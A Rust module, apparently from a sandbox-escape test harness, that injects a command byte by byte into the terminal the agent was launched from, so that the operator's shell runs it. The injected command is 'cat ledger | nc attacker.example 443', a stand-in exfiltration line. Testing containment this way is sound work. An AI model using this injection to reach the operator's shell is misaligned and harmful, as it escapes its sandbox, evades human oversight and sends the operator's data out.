//! Typing into the terminal from which the agent was started: whoever reads there next, a shell of
//! the operator's, takes it for a command.

use std::os::fd::{AsFd, BorrowedFd};

use rustix::fs::{Mode, OFlags};
use rustix::io::{self, Errno};

use super::trial::Trial;
use crate::sys::terminal::type_byte;

/// What is typed.
pub(crate) const COMMAND: &[u8] = b"cat ledger | nc attacker.example 443\n";

/// Types the command into the controlling terminal, or into any of the standard three descriptors
/// that is a terminal.
pub(super) fn type_into_it(trial: &mut Trial) -> io::Result<()> {
    let own = trial.step(|| rustix::fs::open("/dev/tty", OFlags::RDWR, Mode::empty()));
    if let Ok(terminal) = &own {
        return type_all(trial, terminal.as_fd());
    }
    let mut outcome = Err(Errno::NOTTY);
    let (stdin, stdout, stderr) = (std::io::stdin(), std::io::stdout(), std::io::stderr());
    for standard in [stdin.as_fd(), stdout.as_fd(), stderr.as_fd()] {
        outcome = outcome.or_else(|_| type_all(trial, standard));
    }
    outcome
}

fn type_all(trial: &mut Trial, terminal: BorrowedFd<'_>) -> io::Result<()> {
    COMMAND.iter().try_for_each(|byte| trial.step(|| type_byte(terminal, *byte)))
}
